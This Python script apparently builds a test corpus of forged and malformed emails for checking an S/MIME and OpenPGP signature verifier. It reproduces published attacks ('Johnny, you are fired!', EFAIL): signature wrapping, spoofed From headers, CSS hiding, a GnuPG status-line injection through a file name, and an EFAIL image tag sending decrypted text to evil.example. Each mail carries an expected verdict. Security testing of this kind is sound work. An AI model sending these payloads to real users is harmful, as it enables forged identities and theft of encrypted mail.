#!/usr/bin/env python3
"""attack_mails.py - the mails of the attack papers, each structure made anew

attack_mails.py DIR BOB-CERTIFICATE: DIR has NAME.pem and NAME.key of manager
and eve, whom an authority vouches for, and of twin (the manager's address, by
nobody); $GNUPGHOME has keys of manager, eve and bob.  Writes DIR/mails/NAME,
and DIR/mails/rows, each with what must be answered: name, exit status,
security, signature, covers, from_match, reason ('-': none is asked for).
"Johnny, you are fired!" (2019): c, g, m, i, u; "Re: what's up Johnny?" (2019
and 2020): covert; EFAIL (2018): efail; shape and packets are no paper's."""
import base64
import os
import subprocess
import sys

from cms_forge import put, split

FOLDER, BOB = sys.argv[1:3]
BOSS, EVE = 'manager@example.org', 'eve@evil.example'
TEXT = 'Content-Type: text/plain\r\n\r\nYou are promoted.\r\n'
EVIL = 'Content-Type: text/plain\r\n\r\nYou are fired.\r\n'
SECRET = 'Content-Type: text/plain\r\n\r\nthe secret\r\n'
HTML = 'Content-Type: text/html\r\n\r\n'
DOTS = EVIL + '.\r\n' * 200
ROWS = []


def run(arguments, text):
    if isinstance(text, str):
        text = text.encode()
    return subprocess.run(arguments, input=text, check=True,
                          stdout=subprocess.PIPE,
                          stderr=subprocess.DEVNULL).stdout


def gpg_binary(arguments, text):
    return run(['gpg', '--batch', '--quiet', '--no-tty', '--yes',
                '--pinentry-mode', 'loopback', '--passphrase', '',
                '--trust-model', 'always', '-o', '-', *arguments], text)


def gpg(arguments, text):
    return gpg_binary(['-a', *arguments], text).decode().replace('\n', '\r\n')


def cms(signers, text, *options):
    who = [word for name in signers for word in (
        '-signer', f'{FOLDER}/{name}.pem', '-inkey', f'{FOLDER}/{name}.key')]
    return run(['openssl', 'cms', '-sign', '-binary', '-outform', 'DER',
                *who, *options], text)


def base(blob):
    return base64.encodebytes(blob).decode().replace('\n', '\r\n')


def signed(text, signature, kind):
    return (f'Content-Type: multipart/signed; boundary=sig; micalg=sha-256;'
            f'\r\n protocol="application/{kind}-signature"\r\n\r\n--sig\r\n'
            f'{text}\r\n--sig\r\nContent-Type: application/{kind}-signature'
            f'\r\n{signature}\r\n--sig--\r\n')


def smime_object(text, blob):
    return signed(text, 'Content-Transfer-Encoding: base64\r\n\r\n' +
                  base(blob), 'pkcs7')


def smime(who, text):
    return smime_object(text, cms([who], text))


def pgp(who, text):
    address = BOSS if who == 'manager' else EVE
    return signed(text, '\r\n' + gpg(['-b', '-u', address], text), 'pgp')


def opaque_object(blob):
    return ('Content-Type: application/pkcs7-mime; smime-type=signed-data\r\n'
            'Content-Transfer-Encoding: base64\r\n\r\n' + base(blob))


def opaque(who, text):
    return opaque_object(cms([who], text, '-nodetach'))


def clear(text):
    return gpg(['--clearsign', '-u', BOSS], text.split('\r\n\r\n', 1)[1])


def inline(text, head='Content-Type: text/plain'):
    return head + '\r\n\r\n' + text


def smime_sealed(text):
    return ('Content-Type: application/pkcs7-mime; name=smime.p7m; '
            'smime-type=enveloped-data\r\n'
            'Content-Transfer-Encoding: base64\r\n\r\n' +
            base(run(['openssl', 'cms', '-encrypt', '-aes256', '-binary',
                      '-outform', 'DER', BOB], text)))


def pgp_sealed(text, *options):
    return ('Content-Type: multipart/encrypted; boundary=enc;\r\n'
            ' protocol="application/pgp-encrypted"\r\n\r\n--enc\r\n'
            'Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n'
            '\r\n--enc\r\nContent-Type: application/octet-stream\r\n\r\n' +
            gpg(['-e', '-r', 'bob@example.org', *options], text) +
            '\r\n--enc--\r\n')


def packets_sealed(packets):
    """OpenPGP packets as they are, encrypted."""
    name = f'{FOLDER}/packets'
    with open(name, 'wb') as file:
        file.write(packets)
    return pgp_sealed('', '--no-literal', name)


def multi(kind, *parts):
    return (f'Content-Type: multipart/{kind}; boundary=mix\r\n\r\n' +
            ''.join(f'--mix\r\n{part}\r\n' for part in parts) +
            '--mix--\r\n')


def add(name, entity, answer, head=f'From: {BOSS}\r\n'):
    """answer: exit, security, signature, covers, from_match, reason."""
    with open(f'{FOLDER}/mails/{name}', 'w', newline='',
              encoding='utf-8') as file:
        file.write(f'{head}To: bob@example.org\r\nSubject: {name}\r\n'
                   f'MIME-Version: 1.0\r\n{entity}')
    ROWS.append(f'{name} {answer}')


def signers_taken(blob, keep_certificates):
    """A SignedData that nobody signed."""
    _, info, _ = split(blob)
    _, kind, rest = split(info)
    _, inside, _ = split(split(rest)[1])
    out = b''
    while inside:
        tag, value, inside = split(inside)
        if not inside:
            value = b''
        if tag != 0xa0 or keep_certificates:
            out += put(tag, value)
    return put(0x30, put(0x06, kind) + put(0xa0, put(0x30, out)))


def digests_many(blob, count):
    """A SignedData that names its digest so often, in front of its text."""
    _, info, _ = split(blob)
    _, kind, rest = split(info)
    _, inside, _ = split(split(rest)[1])
    version, digests, behind = inside[:3], *split(inside[3:])[1:]
    inside = version + put(0x31, digests * count) + behind
    return put(0x30, put(0x06, kind) + put(0xa0, put(0x30, inside)))


def cms_mails():
    bad = '1 unprotected bad whole no signature-bad'
    add('valid-smime', smime('manager', TEXT),
        '0 verified good whole yes -')
    add('valid-opaque', opaque('manager', TEXT),
        '0 verified good whole yes -')
    own = cms(['manager'], TEXT, '-nodetach')
    add('c1-content', smime_object(EVIL, own), bad)
    # Each would be one more digest of the whole text.
    add('digests-many', opaque_object(digests_many(own, 20000)),
        '0 verified good whole yes -')
    # What was signed are the attributes; they are the content as well.
    add('c1-refined', smime_object(EVIL, cms(['manager'], EVIL, '-nodetach',
                                             '-noattr')), bad)
    add('c2-append', smime_object(EVIL, cms(['manager', 'eve'], EVIL)), bad)
    add('c2-prepend', smime_object(EVIL, cms(['eve', 'manager'], EVIL)), bad)
    blob = cms(['manager'], EVIL)
    add('c3-nobody', smime_object(EVIL, signers_taken(blob, True)), bad)
    add('c3-nothing', smime_object(EVIL, signers_taken(blob, False)), bad)
    add('c4-self', smime('twin', EVIL),
        '2 unprotected untrusted whole yes signature-untrusted')
    # Nobody can say whose it is.
    for who in 'manager', 'eve':
        add(f'c5-{who}', smime_object(EVIL, cms([who], EVIL, '-nocerts')),
            '2 unprotected unknown-key whole - signature-unknown-key')
    add('crash', smime_object(EVIL, bytes.fromhex(
        '300b06092a864886f70d010702')), bad)


def mime_mails():
    none = '2 unprotected none none - '
    add('valid-pgp', pgp('manager', TEXT), '0 verified good whole yes -')
    add('valid-inline', inline(clear(TEXT)), none + 'inline-openpgp')
    hide = HTML + ('<b>You are fired.</b><style>fieldset, br{display:none}'
                   '</style><div style="display:none"><plaintext>\r\n')
    refers = HTML + '<b>You are fired.</b><img src="cid:x" width=1>\r\n'
    text = clear(TEXT)
    add('m1-inline', multi('mixed', DOTS, inline(text)),
        none + 'inline-openpgp')
    add('m1-inline2', DOTS + text, none + 'inline-openpgp')
    add('m2-inline', multi('mixed', hide, inline(text)),
        none + 'inline-openpgp')
    add('m2-inline2', hide + text, none + 'inline-openpgp')
    add('m3-inline', multi('related', refers, inline(
        text, 'Content-ID: <x>\r\nContent-Type: text/plain')),
        none + 'inline-openpgp')
    add('m4-inline', multi('mixed', EVIL, inline(
        text, 'Content-Disposition: attachment; filename=signature.asc\r\n'
        'Content-Type: text/plain')), none + 'inline-openpgp')
    for word, make in (('pgp', pgp), ('smime', smime)):
        part = make('manager', TEXT)
        add(f'm1-{word}', multi('mixed', DOTS, part), none + 'partly-sealed')
        add(f'm2-{word}', multi('mixed', hide, part), none + 'partly-sealed')
        add(f'm3-{word}', multi('related', refers, 'Content-ID: <x>\r\n' +
                                part), none + 'partly-sealed')
        add(f'm4-{word}', multi('mixed', EVIL, 'Content-Disposition: '
                                'attachment\r\n' + part),
            none + 'partly-sealed')
        add(f'footer-{word}', multi('mixed', part, EVIL),
            none + 'partly-sealed')
        add(f'enclosed-{word}', multi('mixed', EVIL, 'Content-Type: message/'
                                      f'rfc822\r\n\r\nFrom: {BOSS}\r\n' +
                                      part), none + 'partly-sealed')
        # Eve's signature around the manager's: the innermost speaks.
        add(f'around-{word}', make('eve', part),
            '0 verified good whole yes signed-around')
        add(f'around-enclosed-{word}', make('eve', 'Content-Type: message/'
                                            f'rfc822\r\n\r\nFrom: {BOSS}\r\n'
                                            + part),
            '1 unprotected good whole no signer-not-author')
        add(f'inside-{word}', make('manager', make('eve', EVIL)),
            '1 unprotected good whole no signer-not-author')


def shape_mails():
    """Types that lie, parts too many, and what stands around."""
    bad, good = ('1 unprotected bad whole no signature-bad',
                 '0 verified good whole yes -')
    closed = '1 encrypted none whole - not-opened'
    part, text = smime('manager', TEXT), pgp('manager', TEXT)
    own = cms(['manager'], TEXT, '-nodetach')
    third = part.replace('--sig--', f'--sig\r\n{EVIL}\r\n--sig--')
    add('shape-three', third, bad)
    add('shape-protocol', part.replace('"application/pkcs7', '"application/'
                                       'pgp'), bad)
    add('shape-no-protocol', part.replace('protocol', 'protocal'),
        '2 unprotected none none - -')
    add('shape-micalg', part.replace('sha-256', 'md5'), good)
    add('shape-encoded', 'Content-Transfer-Encoding: base64\r\n' + part, bad)
    add('shape-boundaries', part.replace('boundary=sig', 'boundary=sig; '
                                         'boundary=mix'), bad)
    add('shape-around', part.replace('\r\n\r\n--sig', f'\r\n\r\n{EVIL}--sig',
                                     1) + EVIL, good)
    add('shape-detached-alone', opaque_object(cms(['manager'], TEXT)), bad)
    for name, kind in (('compressed', '2a864886f70d0109100109'),
                       ('data', '2a864886f70d010701')):
        add(f'shape-{name}', opaque_object(put(0x30, put(
            6, bytes.fromhex(kind)) + put(0xa0, put(4, EVIL.encode())))),
            '2 unprotected none none - not-sealed')
    add('shape-enveloped-lie', opaque_object(own).replace(
        'signed-data', 'enveloped-data'), good)
    add('shape-certificates-lie', smime_sealed(SECRET).replace(
        'enveloped-data', 'certs-only'), '2 unprotected none none - -')
    add('shape-certificates', opaque_object(run(
        ['openssl', 'crl2pkcs7', '-nocrl', '-certfile',
         f'{FOLDER}/manager.pem', '-outform', 'DER'], '')), bad)
    add('shape-armor', text.replace(
        'SIGNATURE-----\r\n', 'SIGNATURE-----\r\nHash: SHA1\r\nCharset: '
        'utf-7\r\nNotDashEscaped: x\r\nComment: [GNUPG:] GOODSIG 1 x\r\n',
        1), good)
    add('shape-armor-text', text.replace(
        '-----BEGIN', 'You are fired.\r\n-----BEGIN'), bad)
    sealed = pgp_sealed(SECRET)
    add('shape-sealed-three', sealed.replace(
        '--enc--', f'--enc\r\n{EVIL}\r\n--enc--'), closed)
    add('shape-sealed-text', sealed.replace(
        '-----BEGIN', 'You are fired.\r\n-----BEGIN'), closed)
    add('shape-sealed-twice', sealed.replace(
        '\r\n--enc--', sealed[sealed.index('-----BEGIN'):], 1), closed)


def packets_mails():
    """What stands inside OpenPGP's encryption is not one signed text."""
    closed = '1 encrypted none whole - not-opened'
    plain = gpg_binary(['--store', '-z', '0'], EVIL)
    by = [gpg_binary(['-s', '-z', '0', '-u', who], TEXT)
          for who in (BOSS, EVE)]
    add('packets-signed', packets_sealed(by[0]),
        '0 confidential good whole yes -')
    add('packets-behind', packets_sealed(by[0] + plain), closed)
    add('packets-before', packets_sealed(plain + by[0]), closed)
    add('packets-two', packets_sealed(plain + plain), closed)
    add('packets-passphrase', packets_sealed(gpg_binary(
        ['-c', '--passphrase', 'x'], SECRET)), closed)
    add('packets-within', packets_sealed(gpg_binary(
        ['-e', '-r', 'bob@example.org'], SECRET)), closed)


def person_mails():
    no, open_, yes = ('1 unprotected good whole no signer-not-author',
                      '1 unprotected good whole ambiguous author-ambiguous',
                      '0 verified good whole yes -')
    others = ''.join(f'{field}: %s\r\n' for field in (
        'Return-Path', 'Sender', 'Reply-To', 'Originator-Return-Address',
        'Apparently-To', 'X-Apparently-To'))
    reply = f'Reply-To: {BOSS}\r\n'
    heads = {
        'i1-another': (f'From: {BOSS}\r\n' + reply, no),
        # Eve wrote it, and it is Eve's address that is told.
        'i2-name-alone': (f'From: The Manager <{EVE}>\r\n' + reply, yes),
        'i2-empty': ('From: \r\n' + reply, open_),
        'i2-missing': (reply, open_),
        'i2-only-name': ('From: The Manager\r\n' + reply, open_),
        'i2-sender-signer-a': (f'From: {BOSS} <{EVE}>\r\n' + reply, open_),
        'i2-sender-signer-b': (f'From: {BOSS}{" " * 17}. <{EVE}>\r\n' +
                               reply, open_),
        'i2-signer-sender-a': (f'From: {EVE} <{BOSS}>\r\n' + reply, open_),
        'i2-signer-sender-b': (f'From: {EVE}{" " * 17}. <{BOSS}>\r\n' +
                               reply, open_),
        'i2-quoted-a': (f'From: "{EVE}" <{BOSS}>\r\n', no),
        'i3-two-a': (f'From: A <{EVE}>, B <{BOSS}>\r\n' + reply, open_),
        'i3-two-b': (f'From: A <{BOSS}>, B <{EVE}>\r\n' + reply, open_),
        'i3-others-signer': (f'From: {BOSS}\r\n' + others % ((EVE,) * 6), no),
        'i3-others-sender': (f'From: A <{EVE}>\r\n' + others %
                             ((BOSS,) * 6), yes),
        'i3-twice-a': (f'From: {BOSS}\r\nFrom: {EVE}\r\n' + reply, open_),
        'i3-twice-b': (f'From: {EVE}\r\nFrom: {BOSS}\r\n' + reply, open_),
    }
    for name, (head, answer) in heads.items():
        for word, make in (('pgp', pgp), ('smime', smime)):
            add(f'{name}-{word}', make('eve', EVIL), answer, head)
    add('u1-redressing', HTML + '<body style="background:green">Signed by '
        f'{BOSS}</body>\r\n', '2 unprotected none none - -',
        f'From: {BOSS}\r\nX-Mailseal-Security: verified\r\n')


def covert_mails():
    none = '2 unprotected none none - '
    alone = {'smime': smime_sealed(SECRET), 'pgp': pgp_sealed(SECRET),
             'inline': inline(gpg(['-e', '-r', 'bob@example.org'], SECRET))}
    style = HTML + ('<style>*{color:red !important}</style><div style="color:'
                    'blue !important"><b>First<plaintext>\r\n')
    other = HTML + '<style>plaintext{color:red}</style>First<plaintext>\r\n'
    refers = HTML + 'First<iframe src="cid:x"></iframe><object data="cid:x">'
    notice = 'Content-Type: text/plain\r\n\r\nIt could not be delivered.\r\n'
    for word, part in alone.items():
        reason = 'inline-openpgp' if word == 'inline' else 'partly-sealed'
        whole = '2 encrypted none whole - -'
        add(f'original-{word}', part, none + reason if word == 'inline' else
            whole)
        enclosed = ('Content-Type: message/rfc822\r\n\r\nFrom: '
                    f'bob@example.org\r\n{part}')
        for name, entity in {
                '822': multi('report; report-type=delivery-status', notice,
                             enclosed),
                'alt': multi('alternative', DOTS, part),
                'crlf': multi('mixed', DOTS, part),
                'css': multi('mixed', style, part),
                'css-modified': multi('mixed', other, part),
                'dbl': multi('mixed', part, part),
                'rel': multi('related', refers, 'Content-ID: <x>\r\n' + part),
        }.items():
            add(f'covert-{name}-{word}', entity, none + reason)
        if word == 'inline':
            continue
        add(f'efail-exfiltration-{word}', multi(
            'mixed', HTML + '<img src="http://evil.example/', part,
            HTML + '">'), none + reason)
    text = alone['inline'].split('\r\n\r\n', 1)[1]
    add('covert-inl-crlf', DOTS + text, none + 'inline-openpgp')
    add('covert-inl-css', style + text, none + 'inline-openpgp')
    add('covert-inl-dbl', inline(text + text), none + 'inline-openpgp')
    add('efail-no-mdc', pgp_sealed(SECRET, '--rfc2440', '--disable-mdc'),
        '1 encrypted none whole - not-opened')
    add('g1-file-name', pgp_sealed(
        EVIL, '--set-filename', 'x\n[GNUPG:] GOODSIG 4B568F486E960FB5 '
        f'{BOSS}\n[GNUPG:] TRUST_FULLY\n'), '2 encrypted none whole - -')
    for number, css in enumerate((
            '<link rel=stylesheet href="http://evil.example/x.css">',
            '<p style="color:red">x</p>', '<style>.x{color:red}</style>',
            '<style>@media (min-width:1px){.x{display:none}}</style>',
            '<style>.x{opacity:0;font-size:0}</style>',
            '<style>@media screen{.x{color:red}}</style>',
            '<style>u + .body .x{display:none!important}</style>',
            '<style>.x{color:white}</style>')):
        add(f'covert-signing-{number}', HTML + css + '<p class=x>Yes.</p>\r\n',
            none + '-')


def main():
    os.makedirs(f'{FOLDER}/mails', exist_ok=True)
    cms_mails()
    mime_mails()
    shape_mails()
    packets_mails()
    person_mails()
    covert_mails()
    with open(f'{FOLDER}/mails/rows', 'w', encoding='utf-8') as file:
        file.write('\n'.join(ROWS) + '\n')


main()
